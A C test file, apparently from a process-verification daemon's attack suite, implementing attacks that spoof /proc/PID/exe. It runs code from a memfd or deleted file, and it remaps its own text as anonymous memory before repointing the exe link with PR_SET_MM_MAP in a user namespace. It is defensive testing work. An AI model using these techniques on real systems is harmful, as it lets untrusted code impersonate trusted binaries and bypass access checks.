// SPDX-License-Identifier: Apache-2.0
/*
 * A11, A15: what /proc/PID/exe says and what runs are made to differ. Runs in svid-attack as evil. The recipe of a15 is
 * reference/kernel.md K4: own text in anonymous memory, then PR_SET_MM_MAP in an own user namespace.
 */
#include <errno.h>
#include <fcntl.h>
#include <linux/prctl.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/prctl.h>
#include <unistd.h>

#include "tests/attack/attack.h"

#define RANGES_MAX 32

extern char **environ;

static void exec_fd(const struct options *o, int fd)
{
	char socket_word[300], wait_word[32];
	char *argv[] = {(char *)o->trusted, "fetch", socket_word, wait_word, "who=thief",
			client_asks_by() ? (char *)word_text("ask", client_asks_by()) : NULL, NULL};

	snprintf(socket_word, sizeof(socket_word), "socket=%s", o->socket);
	snprintf(wait_word, sizeof(wait_word), "wait=%d", o->wait_ms);
	fexecve(fd, argv, environ);
	die("fexecve");
}

/* A11: an executable that has no path, and one whose path is gone. how= is a folder of the attacker. */
static int a11(const struct options *o)
{
	char path[256];
	int fd;

	if (is_variant(o, "memfd")) {
		fd = memfd_create(o->trusted, MFD_CLOEXEC);
		snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
		copy_file("/proc/self/exe", path);
		/* an executable open for writing cannot run */
		fd = open(path, O_RDONLY | O_CLOEXEC);
		close(fd - 1);
	} else {
		snprintf(path, sizeof(path), "%s/gone", o->how);
		copy_file("/proc/self/exe", path);
		fd = open(path, O_RDONLY | O_CLOEXEC);
		unlink(path);
	}
	if (fd < 0)
		die(path);
	exec_fd(o, fd);
	return 3;
}

struct range {
	unsigned long start, end;
	int prot;
};

/* Where our own executable file is mapped. */
static int ranges_of(const char *exe, struct range *ret_ranges)
{
	FILE *f = fopen("/proc/self/maps", "re");
	char line[512], r, w, x;
	int n = 0;

	if (!f)
		die("/proc/self/maps");
	while (fgets(line, sizeof(line), f) && n < RANGES_MAX) {
		struct range *g = &ret_ranges[n];

		line[strcspn(line, "\n")] = 0;
		if (strlen(line) < strlen(exe) || strcmp(line + strlen(line) - strlen(exe), exe) != 0)
			continue;
		if (sscanf(line, "%lx-%lx %c%c%c", &g->start, &g->end, &r, &w, &x) != 5)
			continue;
		g->prot = (r == 'r' ? PROT_READ : 0) | (w == 'w' ? PROT_WRITE : 0) | (x == 'x' ? PROT_EXEC : 0);
		n++;
	}
	fclose(f);
	return n;
}

/* The same bytes at the same place, but of no file. */
static void make_anonymous(const struct range *g)
{
	size_t len = g->end - g->start;
	void *copy = mmap(NULL, len, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);

	if (copy == MAP_FAILED)
		die("mmap");
	if (!(g->prot & PROT_READ) && mprotect((void *)g->start, len, g->prot | PROT_READ))
		die("mprotect");
	memcpy(copy, (void *)g->start, len);
	if (mprotect(copy, len, g->prot))
		die("mprotect");
	if (mremap(copy, len, len, MREMAP_MAYMOVE | MREMAP_FIXED, (void *)g->start) == MAP_FAILED)
		die("mremap");
}

static void own_link(char *ret_exe, size_t size)
{
	ssize_t len = readlink("/proc/self/exe", ret_exe, size - 1);

	ret_exe[len > 0 ? len : 0] = 0;
}

void leave_file(const char *exe)
{
	struct range ranges[RANGES_MAX];
	int n = ranges_of(exe, ranges);

	for (int i = 0; i < n; i++)
		make_anonymous(&ranges[i]);
}

void link_to(const char *path)
{
	struct prctl_mm_map map;

	mm_map_now(&map);
	map.exe_fd = open(path, O_RDONLY | O_CLOEXEC);
	if (prctl(PR_SET_MM, PR_SET_MM_MAP, &map, sizeof(map), 0) == 0)
		return;
	if (errno == EPERM)
		skip("PR_SET_MM_MAP with an exe_fd is refused here");
	die("PR_SET_MM_MAP");
}

static volatile int lent_now;

/* In a user namespace, in the memory of a parent that is in none: the link now names its own file, by another mount. */
static int lend_link(void *arg)
{
	const struct options *o = arg;

	if (mount(NULL, "/", NULL, MS_REC | MS_PRIVATE, NULL) || mount(o->evil, o->trusted, NULL, MS_BIND, NULL))
		die("bind mount");
	link_to(o->trusted);
	lent_now = 1;
	for (;;)
		pause(); /* the mount goes with its namespace */
}

static void borrow_link(const struct options *o)
{
	static char stack[1 << 17] __attribute__((aligned(16)));
	pid_t pid = clone(lend_link, stack + sizeof(stack), CLONE_VM | CLONE_NEWUSER | CLONE_NEWNS | SIGCHLD, (void *)o);

	if (pid < 0)
		skip("user namespaces are refused here");
	for (int ms = 0; !lent_now && ms < o->wait_ms; ms += 5)
		sleep_ms(5);
}

static int a15(const struct options *o)
{
	bool lent = is_variant(o, "lent");
	char exe[256];
	struct answer a;

	own_link(exe, sizeof(exe));
	if (!lent)
		enter_user_ns(0);
	leave_file(exe);
	if (lent)
		borrow_link(o);
	else
		link_to(o->trusted);
	own_link(exe, sizeof(exe));
	say("exe: %s", strcmp(exe, o->trusted) == 0 ? "spoofed" : exe);
	answer_init(&a);
	client_ask(client_open(o->socket), &a, o->wait_ms);
	answer_say("thief", &a);
	return 0;
}

const struct command spoof_exe_commands[] = {
	{"a11", "an executable without a path; variant=memfd|deleted", a11},
	{"a15", "PR_SET_MM_MAP points the exe link at trusted; variant=lent: by a child in the same memory", a15},
	{NULL, NULL, NULL},
};
